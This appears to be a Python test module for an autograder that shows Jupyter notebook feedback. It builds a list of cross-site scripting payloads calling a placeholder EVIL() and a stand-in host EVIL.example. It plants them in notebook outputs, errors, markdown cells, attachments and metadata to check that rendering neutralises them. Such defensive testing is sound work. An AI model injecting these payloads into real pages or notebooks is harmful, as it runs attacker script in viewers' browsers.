"""Outputs, texts and errors that try to run code in the browser of the person who opens the feedback."""

import base64

from attack import attack, handed_in, position
from attack_course import HONEST_POINTS
from nbformat.v4 import new_markdown_cell

SCRIPTS = [
    "<script>EVIL()</script>",
    "<ScRiPt src=//EVIL.example/x.js></sCrIpT>",
    "<img src=x onerror=EVIL()>",
    "<svg onload=EVIL()><animate onbegin=EVIL() attributeName=x dur=1s></svg>",
    "<a href='javascript:EVIL()'>x</a>",
    "<a href=' java\tscript:EVIL()'>x</a>",
    "<a href='data:text/html,<script>EVIL()</script>'>x</a>",
    "<iframe srcdoc='<script>EVIL()</script>'></iframe>",
    "<form action='//EVIL.example'><button formaction='javascript:EVIL()'>x</button></form>",
    "<object data='//EVIL.example'></object><embed src='//EVIL.example'>",
    "<meta http-equiv=refresh content='0;url=//EVIL.example'><base href='//EVIL.example'>",
    "<link rel=stylesheet href='//EVIL.example'><style>@import '//EVIL.example'; p {background: url(//EVIL)}</style>",
    "<div style='background: url(//EVIL.example)'>x</div>",
    "<math><mtext></mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=EVIL()&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=EVIL()>'>",
    "--><script>EVIL()</script><!--",
    "</pre></div></body></html><script>EVIL()</script>",
    "]]><script>EVIL()</script>",
    "<details open ontoggle=EVIL()>x</details><video><source onerror=EVIL()></video>",
    "<input autofocus onfocus=EVIL()><marquee onstart=EVIL()>x</marquee>",
]
ALL = "\n\n".join(SCRIPTS)


def shown(name, text, **options):
    attack(name, f"SCRIPTS = {SCRIPTS!r}\nALL = {ALL!r}\nfrom IPython.display import *\n{text}", **options)


shown("html", "for script in SCRIPTS: display(HTML(script))")
shown(
    "javascript",
    """
display(Javascript('EVIL()', lib='//EVIL.example/x.js', css='//EVIL.example/x.css'))
display({'application/javascript': 'EVIL()', 'text/javascript': 'EVIL()'}, raw=True)
""",
)
shown(
    "pictures that are scripts",
    """
for script in SCRIPTS: display(SVG('<svg xmlns="http://www.w3.org/2000/svg">' + script.replace('&', '') + '</svg>')
                               if 0 else {'image/svg+xml': '<svg>' + script + '</svg>'}, raw=True)
display({'image/png': '"><script>EVIL()</script>', 'image/jpeg': "x' onerror='EVIL()"}, raw=True,
        metadata={'image/png': {'width': '1" onload="EVIL()', 'alt': '"><script>EVIL()</script>'}})
""",
)
shown(
    "markdown and formulas",
    r"""
for script in SCRIPTS: display(Markdown(script)); display(Latex(script))
display(Latex(r'$\href{javascript:EVIL()}{x} \unicode{<script>EVIL()</script>} \style{x:url(//EVIL)}{x}$'))
display(Markdown('[x](javascript:EVIL()) ![x](//EVIL.example/x.png) [y]: javascript:EVIL()\n\n<javascript:EVIL()>'))
""",
)
shown(
    "printed text and colours",
    """
import sys
print(ALL); print(ALL, file=sys.stderr)
print('\\x1b[31m"><script>EVIL()</script>\\x1b[0m \\x1b]8;;javascript:EVIL()\\x07x\\x1b]8;;\\x07 \\x1b]0;EVIL\\x07')
""",
)
shown(
    "errors whose name and text are markup",
    """
Trouble = type(ALL, (Exception,), {'_render_traceback_': lambda self: SCRIPTS})
# %%
raise Trouble(ALL)
""",
)
shown(
    "errors that the judge tells of",
    """
# %% softmax_loss
def softmax_loss(W, X, y, reg):
    raise type('<script>EVIL()</script>', (ValueError,), {})(ALL)
# %% batches
def batches(X, size):
    return type('<img src=x onerror=EVIL()>', (), {'__repr__': lambda self: ALL})()
# %% label_of
def label_of(scores):
    return ALL
# %% derivative
def derivative(f, x):
    f.__name__ = ALL
    return f(ALL)
""",
    reason="softmax_loss",
)
shown(
    "widgets and kinds that are unknown",
    """
display({'application/vnd.jupyter.widget-view+json': {'model_id': '"><script>EVIL()</script>'},
         'application/vnd.EVIL+html': ALL, 'text/html+EVIL': ALL, 'application/json': {'x': ALL},
         'application/pdf': 'EVIL', 'text/html': [ALL]}, raw=True)
display({'"><script>EVIL()</script>': 'x', 'text/html': ALL}, raw=True)
""",
)
shown(
    "iframes, video and files",
    """
display(IFrame('javascript:EVIL()', 1, 1, title='"><script>EVIL()</script>'))
display(HTML(ALL), metadata={'text/html': {'isolated': True}, 'isolated': True})
display(FileLink('x" onclick="EVIL()'), Audio(url='//EVIL.example/x.wav'), Video('//EVIL.example/x.mp4'))
""",
    at_most=True,
)
shown(
    "a table of a data frame",
    """
class Frame:
    def _repr_html_(self): return '<table onclick=EVIL()><tr><td style="x:expression(EVIL())">' + ALL + '</table>'
    def _repr_mimebundle_(self, **_): return {'text/html': self._repr_html_(), 'text/plain': ALL}
Frame()
""",
)


@handed_in("scripts in text cells", points=HONEST_POINTS)
def _(notebook, folder):
    notebook.cells += [new_markdown_cell(script) for script in SCRIPTS]
    notebook.cells += [new_markdown_cell("```html\n" + ALL + "\n```\n\n    " + ALL), new_markdown_cell(ALL)]
    notebook.cells.append(new_markdown_cell("# <script>EVIL()</script>\n\n[x](javascript:EVIL()) ![](//EVIL.example)"))
    notebook.cells.append(new_markdown_cell(r"$\href{javascript:EVIL()}{x}$ $$</script><script>EVIL()</script>$$"))


@handed_in("scripts in the answer to the question", points=HONEST_POINTS)
def _(notebook, folder):
    notebook.cells[position(notebook, "question")].source = ALL


@handed_in("scripts in attachments", points=HONEST_POINTS)
def _(notebook, folder):
    page = base64.b64encode(b"<script>EVIL()</script>").decode()
    cell = new_markdown_cell("![x](attachment:x.png) ![y](attachment:y.svg) [z](attachment:z.html)")
    svg = '"><script>EVIL()</script>'
    cell["attachments"] = {"x.png": {"text/html": page}, "y.svg": {"image/svg+xml": svg}, "z.html": {svg: page}}
    notebook.cells.append(cell)


@handed_in("scripts in the notebook's own names", points=HONEST_POINTS)
def _(notebook, folder):
    notebook.metadata |= {"title": "<script>EVIL()</script>", "authors": [{"name": "<img src=x onerror=EVIL()>"}]}
    for k, cell in enumerate(notebook.cells):
        cell["id"] = f"EVIL-{k}"
        cell.metadata["tags"] = ["<script>EVIL()</script>"]
        cell.metadata["name"] = '"><script>EVIL()</script>'


@handed_in("scripts in the code", points=HONEST_POINTS)
def _(notebook, folder):
    for name in ("batches", "derivative"):
        notebook.cells[position(notebook, name)].source += f"\n'''{ALL}'''"
